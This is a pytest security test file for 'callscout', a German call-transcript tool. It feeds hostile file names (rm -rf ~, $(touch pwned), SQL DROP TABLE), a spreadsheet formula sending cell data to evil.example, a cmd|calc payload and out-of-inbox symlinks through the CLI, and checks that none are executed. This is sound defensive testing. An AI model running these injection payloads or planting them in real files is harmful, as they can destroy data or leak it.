"""Security: hostile file names, metadata and cell contents are data, never code.

- names with spaces, umlauts, shell and rich-markup metacharacters go through the real CLI
  (``process``, ``show``, ``export``, ``watch``) and are stored and filed under their exact names;
  nothing is executed;
- SQL-looking sidecar values are stored verbatim, extra sidecar keys cannot set store fields,
  and the tables stay intact;
- IBANs, phone numbers and e-mail addresses said in a call never reach the store file;
- a sidecar (or a folder) linking out of the inbox is not read;
- CSV exports written by the CLI neutralise formula cells that came in through a sidecar or
  the customer's words (tests/test_export*.py check the formatters themselves);
- no shell, ``eval``, ``pickle`` or unsafe YAML loader anywhere in ``src/``.

One ``process`` run (the real CLI with the hashing encoder) builds the store that most tests read.
"""

from __future__ import annotations

import ast
import csv
import json
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from callscout.crm.export import FORMULA_PREFIXES
from callscout.store.database import Store
from callscout.watch.folder import WatchOptions, watch_folder
from tests.test_bad_inputs import CATALOGUE, GOOD_CALL, cli_env, fake_pipeline, query

ROOT = Path(__file__).resolve().parents[1]
SRC = ROOT / "src" / "callscout"
HOCHZEIT = ROOT / "fixtures" / "calls" / "kunde_hochzeit.txt"

HOSTILE_NAMES = (
    "a b.txt",
    "Müller;rm -rf ~.txt",
    "$(touch pwned).txt",
    "`touch pwned`.txt",
    "x && touch pwned || echo $HOME > leak.txt",
    "'); DROP TABLE calls; --.txt",
    "-rf.txt",
    "[red]rot[blink].txt",  # rich markup in the progress table
)
NESTED = "[/x].txt"  # in a folder named "[": its path holds a closing markup tag
INJECTION = {
    "customer_id": "K-1'; DROP TABLE calls; --",
    "account_manager": 'Robert"); DELETE FROM opportunities; --',
    "recorded_at": "2026-01-02T03:04:05",
    # not metadata keys: ignored, they cannot set store columns
    "source_path": "/etc/passwd",
    "status": "processing",
    "id": "0000000000000000",
    "purged_at": "1970-01-01",
}
FORMULAS = {
    "customer_id": '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
    "account_manager": "@SUM(1+1)*cmd|' /C calc'!A0",
    "recorded_at": "2026-01-02T03:04:05",
}
MARKER = "pwned"


def write_call(path: Path, text: str, meta: dict | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    if meta is not None:
        path.with_name(path.stem + ".meta.json").write_text(json.dumps(meta), encoding="utf-8")
    return path


def callscout(base: Path, *args) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "callscout", *map(str, args)],
        capture_output=True, text=True, cwd=base, env=env_for(base), timeout=300,
    )


def env_for(base: Path) -> dict[str, str]:
    # HOME is a scratch folder with a canary: "rm -rf ~" or "echo $HOME", were they run, would show there.
    return cli_env(base, HOME=str(base / "home"), COLUMNS="250")


def executed_anything(base: Path) -> list[str]:
    """Files a shell would have made from the hostile names, anywhere below ``base``."""
    made = [p for p in base.rglob("*") if p.name in (MARKER, "leak.txt")]
    return [str(p) for p in made] + ([] if (base / "home" / "canary").exists() else ["canary deleted"])


@pytest.fixture(scope="module")
def processed(tmp_path_factory):
    """A store from one real ``callscout process`` run over a folder of hostile inputs."""
    base = tmp_path_factory.mktemp("security")
    (base / "home").mkdir()
    (base / "home" / "canary").write_text("still here", encoding="utf-8")
    inbox = base / "inbox"
    for name in HOSTILE_NAMES:  # distinct content: a call's id is its content hash
        write_call(inbox / name, GOOD_CALL + f"Berater: Notiert unter {name}.\n")
    write_call(inbox / "[" / NESTED.split("/")[1], GOOD_CALL + "Berater: Im Ordner mit Klammer.\n")
    (inbox / "[" / "y].docx").write_bytes(b"PK")  # skipped: its path is printed
    write_call(inbox / "injection.txt", GOOD_CALL + "Berater: Vorgang SQL.\n", INJECTION)
    # The customer's words open with "-" and "=": those quotes become evidence cells.
    spoken = HOCHZEIT.read_text(encoding="utf-8").replace("Kunde: Ja, wir sind", "Kunde: -Ja, wir sind")
    spoken = spoken.replace("Kunde: Ja, wir haben", "Kunde: =Ja, wir haben")
    write_call(inbox / "formel.txt", spoken, FORMULAS)
    db = base / "calls.db"
    result = callscout(base, "process", inbox, "--catalogue", CATALOGUE, "--db", db)
    return base, inbox, db, result


def test_hostile_names_are_stored_verbatim_and_nothing_is_executed(processed):
    base, inbox, db, result = processed
    assert result.returncode == 0, result.stderr
    stored = dict(query(db, "SELECT source_path, status FROM calls"))
    for name in HOSTILE_NAMES:
        assert stored[str(inbox / name)] == "done", name
    assert stored[str(inbox / "[" / "x].txt")] == "done"
    assert len(stored) == len(HOSTILE_NAMES) + 3
    assert executed_anything(base) == []


def test_names_and_paths_are_printed_not_read_as_markup(processed):
    _, inbox, _, result = processed
    assert "Traceback" not in result.stderr and "MarkupError" not in result.stderr
    assert f"skipped {inbox / '[' / 'y].docx'}: unsupported file type '.docx'" in result.stderr
    assert "[red]rot[blink].txt" in result.stderr  # in the table, as it is named
    assert "done: 11, unchanged: 0, failed: 0, skipped: 1" in result.stderr


def test_show_finds_hostile_paths_and_an_injection_looking_key_finds_nothing(processed):
    base, inbox, db, _ = processed
    for name in ("$(touch pwned).txt", "'); DROP TABLE calls; --.txt", "Müller;rm -rf ~.txt"):
        shown = callscout(base, "show", inbox / name, "--db", db)
        assert shown.returncode == 0, shown.stderr
        assert shown.stdout.splitlines()[0].endswith(str(inbox / name)) and f"Notiert unter {name}" in shown.stdout
    for key in ("' OR '1'='1", "%", "1 OR 1=1; --"):
        missing = callscout(base, "show", key, "--db", db)
        assert missing.returncode == 1 and missing.stderr.strip() == f"error: {key}: no such call in {db}"
    assert executed_anything(base) == []


def test_export_to_a_hostile_output_name(processed):
    base, _, db, _ = processed
    output = base / "out" / "$(touch pwned); a b.jsonl"
    result = callscout(base, "export", "--db", db, "--format", "jsonl", "--output", output)
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in output.parent.iterdir()) == [output.name]
    assert executed_anything(base) == []


def test_sql_looking_metadata_is_stored_verbatim_and_tables_stay_intact(processed):
    _, inbox, db, _ = processed
    [(call_id, source_path, status, customer, manager, recorded, purged)] = query(
        db,
        "SELECT id, source_path, status, customer_id, account_manager, recorded_at, purged_at FROM calls "
        "WHERE customer_id = ?",
        [INJECTION["customer_id"]],
    )
    assert (source_path, status, customer, manager, recorded, purged) == (
        str(inbox / "injection.txt"), "done", INJECTION["customer_id"], INJECTION["account_manager"],
        INJECTION["recorded_at"], None,
    )
    assert call_id != INJECTION["id"]
    assert {c for (c,) in query(db, "SELECT DISTINCT customer_id FROM opportunities WHERE call_id = ?", [call_id])} == {
        INJECTION["customer_id"]
    }
    tables = {name for (name,) in query(db, "SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert {"calls", "segments", "signals", "opportunities", "exports", "export_items"} <= tables
    assert query(db, "SELECT count(*) FROM calls") == [(len(HOSTILE_NAMES) + 3,)]
    assert query(db, "SELECT count(*) FROM opportunities")[0][0] > 0
    assert query(db, "PRAGMA integrity_check") == [("ok",)]


@pytest.mark.parametrize(
    ("fmt", "companion"), [("csv", None), ("salesforce", "_tasks.csv"), ("hubspot", "_notes.csv")]
)
def test_cli_csv_exports_neutralise_formulas_from_sidecars_and_speech(processed, fmt, companion):
    base, _, db, _ = processed
    output = base / f"export-{fmt}" / "out.csv"
    result = callscout(base, "export", "--db", db, "--format", fmt, "--output", output)
    assert result.returncode == 0, result.stderr
    files = [output] + ([output.with_name("out" + companion)] if companion else [])
    cells = []
    for path in files:
        with path.open(encoding="utf-8", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)] == []
    assert "'" + FORMULAS["customer_id"] in cells  # neutralised, otherwise verbatim
    if fmt == "csv":
        assert "'" + FORMULAS["account_manager"] in cells
        assert "'-Ja, wir sind letzte Woche in eine neue Wohnung gezogen." in cells
        assert "'=Ja, wir haben letzten Monat geheiratet." in cells


def test_jsonl_keeps_formula_looking_values_verbatim(processed):
    base, _, db, _ = processed
    output = base / "export-jsonl" / "out.jsonl"
    assert callscout(base, "export", "--db", db, "--format", "jsonl", "--output", output).returncode == 0
    rows = [json.loads(line) for line in output.read_text(encoding="utf-8").splitlines()]
    mine = [row for row in rows if row["customer_id"] == FORMULAS["customer_id"]]
    assert mine and {row["account_manager"] for row in mine} == {FORMULAS["account_manager"]}
    assert "=Ja, wir haben letzten Monat geheiratet." in {row["evidence"] for row in mine}


# the hot folder (the real ``watch`` command, with the fake extractor: no spaCy start-up)


def test_watch_files_hostile_names_away_under_their_exact_names(tmp_path):
    inbox = tmp_path / "inbox"
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / "canary").write_text("still here", encoding="utf-8")
    for name in HOSTILE_NAMES:
        write_call(inbox / name, GOOD_CALL + f"Berater: Notiert unter {name}.\n", {"customer_id": f"K-{name}"})
    db = tmp_path / "calls.db"
    code = "from tests.test_watch import run_cli_with_fake; run_cli_with_fake()"
    env = {**env_for(tmp_path), "PYTHONPATH": str(ROOT)}
    result = subprocess.run(
        [sys.executable, "-c", code, "watch", str(inbox), "--catalogue", str(CATALOGUE), "--db", str(db), "--once", "--settle", "0"],
        capture_output=True, text=True, cwd=tmp_path, env=env, timeout=300,
    )
    assert result.returncode == 0, result.stderr
    expected = sorted([name for name in HOSTILE_NAMES] + [Path(name).stem + ".meta.json" for name in HOSTILE_NAMES])
    assert sorted(p.name for p in (inbox / "processed").iterdir()) == expected
    assert sorted(customer for (customer,) in query(db, "SELECT customer_id FROM calls")) == sorted(
        f"K-{name}" for name in HOSTILE_NAMES
    )
    assert executed_anything(tmp_path) == []


# identifiers spoken in a call


def test_spoken_identifiers_never_reach_the_store_file(tmp_path):
    """Extraction reads the raw text in memory; segments, signal and opportunity quotes are stored redacted."""
    call = write_call(
        tmp_path / "inbox" / "iban.txt",
        "Berater: Guten Tag.\n"
        "Kunde: Wir ziehen um, die neue IBAN ist DE89 3704 0044 0532 0130 00, Handy 0171 2345678, "
        "Mail anna.muster@example.de.\n",
    )
    db = tmp_path / "calls.db"
    with Store(db) as store:
        [outcome] = fake_pipeline(store).run([call]).outcomes
    assert outcome.status == "done" and outcome.opportunities
    expected = "Wir ziehen um, die neue IBAN ist [IBAN], Handy [PHONE], Mail [EMAIL]."
    assert query(db, "SELECT text FROM segments WHERE speaker = 'customer'") == [(expected,)]
    assert {e for (e,) in query(db, "SELECT evidence FROM signals")} == {expected}
    assert {e for (e,) in query(db, "SELECT evidence FROM opportunities")} == {expected}
    stored = b"".join(p.read_bytes() for p in tmp_path.glob("calls.db*"))
    for secret in (b"DE89", b"0532 0130", b"2345678", b"anna.muster"):
        assert secret not in stored, secret


# links out of the inbox


@pytest.fixture
def outside(tmp_path) -> Path:
    """A folder beside the inbox with a private sidecar and a private call."""
    folder = tmp_path / "outside"
    write_call(folder / "private.txt", "Berater: Hallo.\nKunde: Geheimer Inhalt, wir ziehen um.\n", {"customer_id": "K-SECRET"})
    return folder


def once(inbox: Path, store: Store):
    return watch_folder(inbox, fake_pipeline(store), WatchOptions(settle=0, once=True), stop=threading.Event())


def test_a_sidecar_linking_out_of_the_inbox_is_not_read(tmp_path, outside):
    inbox = tmp_path / "inbox"
    write_call(inbox / "a.txt", GOOD_CALL)
    (inbox / "a.meta.json").symlink_to(outside / "private.meta.json")
    db = tmp_path / "calls.db"

    with Store(db) as store:
        [skipped] = fake_pipeline(store).run([inbox]).outcomes  # ``process``: skipped with the reason
        assert skipped.status == "skipped"
        assert skipped.error == "a.meta.json: sidecar must be a file in the recording's own folder"
        [failed] = once(inbox, store).outcomes  # ``watch``: filed under failed/ with the reason
        assert failed.status == "failed" and "must be a file in the recording's own folder" in failed.error

    assert query(db, "SELECT count(*) FROM calls WHERE customer_id = 'K-SECRET'") == [(0,)]
    assert (inbox / "failed" / "a.meta.json").is_symlink()  # the link moved, not what it points to
    assert json.loads((outside / "private.meta.json").read_text(encoding="utf-8")) == {"customer_id": "K-SECRET"}


def test_a_folder_linking_out_of_the_inbox_is_not_entered(tmp_path, outside):
    inbox = tmp_path / "inbox"
    write_call(inbox / "a.txt", GOOD_CALL)
    (inbox / "linked").symlink_to(outside, target_is_directory=True)
    db = tmp_path / "calls.db"
    with Store(db) as store:
        assert [o.path.name for o in fake_pipeline(store).run([inbox]).outcomes] == ["a.txt"]
        assert [o.path.name for o in once(inbox, store).outcomes] == ["a.txt"]
    assert (outside / "private.txt").exists() and not (inbox / "processed" / "linked").exists()
    assert query(db, "SELECT count(*) FROM segments WHERE text LIKE '%Geheimer%'") == [(0,)]


def test_a_call_file_linking_out_of_the_inbox_is_not_read_by_the_watcher(tmp_path, outside):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "evil.txt").symlink_to(outside / "private.txt")
    db = tmp_path / "calls.db"
    with Store(db) as store:
        once(inbox, store)
    assert query(db, "SELECT count(*) FROM segments WHERE text LIKE '%Geheimer%'") == [(0,)]


# code that could run a shell or foreign code


DANGEROUS = {
    "os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput", "eval", "exec",
    "pickle.load", "pickle.loads", "marshal.loads", "yaml.load", "yaml.unsafe_load", "yaml.full_load",
}


def dangerous_calls(source: str, filename: str) -> list[str]:
    """``file:line: call`` for each call that runs a shell or foreign code."""
    found = []
    for node in ast.walk(ast.parse(source, filename=filename)):
        if not isinstance(node, ast.Call):
            continue
        name = ast.unparse(node.func)
        shell = [k for k in node.keywords if k.arg == "shell"]
        if any(not (isinstance(k.value, ast.Constant) and k.value.value is False) for k in shell):
            found.append(f"{filename}:{node.lineno}: {name}(shell=...)")
        if name in DANGEROUS or name.startswith(("os.exec", "os.spawn")):
            found.append(f"{filename}:{node.lineno}: {name}")
    return found


def test_no_shell_eval_pickle_or_unsafe_yaml_in_src():
    files = sorted(SRC.rglob("*.py"))
    assert len(files) > 20
    hits = [hit for path in files for hit in dangerous_calls(path.read_text(encoding="utf-8"), str(path.relative_to(ROOT)))]
    assert hits == []
    for path in files:
        text = path.read_text(encoding="utf-8")
        assert "shell=True" not in text and "os.system" not in text, path


def test_the_scan_catches_each_kind():
    source = (
        "import os, subprocess, yaml\n"
        "subprocess.run('ls', shell=True)\nsubprocess.run(['ls'], shell=False)\nsubprocess.Popen('ls', shell=flag)\n"
        "os.system('ls')\nos.execvp('ls', ['ls'])\nyaml.load(x)\nyaml.safe_load(x)\neval('1')\n"
    )
    assert dangerous_calls(source, "sample.py") == [
        "sample.py:2: subprocess.run(shell=...)",
        "sample.py:4: subprocess.Popen(shell=...)",
        "sample.py:5: os.system",
        "sample.py:6: os.execvp",
        "sample.py:7: yaml.load",
        "sample.py:9: eval",
    ]
